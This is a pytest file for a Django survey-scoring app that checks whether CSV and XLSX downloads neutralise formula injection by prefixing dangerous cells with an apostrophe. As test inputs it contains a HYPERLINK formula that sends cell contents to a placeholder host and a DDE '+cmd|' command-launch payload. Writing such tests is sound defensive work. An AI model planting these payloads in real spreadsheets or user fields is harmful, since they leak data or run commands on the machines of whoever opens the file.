"""Every file a spreadsheet may open goes through one formula-safe writer."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from scoring.models import QualityFlag
from surveys.spreadsheets import Sheet, csv_text, safe, xlsx_bytes

EVIL = '=HYPERLINK("http://x/?"&A1,"x")'


@pytest.mark.parametrize(("value", "written"), [
    (EVIL, "'" + EVIL), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-1.25", "-1.25"), ("+3", "+3"), ("-0.5e3", "-0.5e3"), ("Tỉnh Bình Dương", "Tỉnh Bình Dương"),
    ("", ""), (None, None), (7, 7),
])
def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers(value, written):
    assert safe(value) == written


def test_csv_and_xlsx_cells_are_neutralised():
    assert csv_text(["a", "b"], [[EVIL, "-1.25"]]) == \
        '\ufeffa,b\n"\'=HYPERLINK(""http://x/?""&A1,""x"")",-1.25\n'
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("s", ["key", "points"],
                                                               [[EVIL, "-1.25"]],
                                                               decimals={"points"})])))
    key, points = next(book["s"].iter_rows(min_row=2))
    assert (key.value, key.data_type, points.value) == ("'" + EVIL, "s", -1.25)


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def evil_submission():
    from surveys.models import Submission

    submission = Submission.objects.get(key="s2")
    submission.key = EVIL
    submission.save(update_fields=["key"])
    return submission


def test_the_quality_flags_download_neutralises_a_citizen_chosen_id(review, client):
    QualityFlag.objects.create(submission=evil_submission(), reason="speeder",
                               detail="40 s; median 600 s")
    client.force_login(review["reviewer"])
    rows = rows_of(client.get(reverse("scoring:quality-download", args=["mini-sipas"])))
    assert rows[1][0] == "'" + EVIL


def test_the_submissions_download_neutralises_ids_and_text_answers(review, client):
    from surveys.models import Answer

    submission = evil_submission()
    Answer.objects.filter(submission=submission, question__code="T01").delete()
    Answer.objects.create(submission=submission, question=submission.questionnaire.questions
                          .get(code="T01"), text_value="@SUM(1+1)")
    client.force_login(review["reviewer"])
    rows = rows_of(client.get(reverse("scoring:download-submissions",
                                      args=["mini-citizens"])))
    row = next(r for r in rows if r[0] == "'" + EVIL)
    assert row[rows[0].index("T01")] == "'@SUM(1+1)"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_score_downloads_keep_negative_numbers_and_neutralise_text(review, client, fmt):
    from surveys.models import Province

    Province.objects.filter(code="74", province_set__code="vn-63").update(name_vi=EVIL)
    client.force_login(review["reviewer"])
    response = client.get(reverse("scoring:download", args=["mini-par", "total", fmt]))
    if fmt == "csv":
        row = next(r for r in rows_of(response) if r[0] == "74")
        assert row[1] == "'" + EVIL
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "74")
        assert (row[1].value, row[1].data_type) == ("'" + EVIL, "s")
        assert isinstance(row[2].value, float)  # points, a number
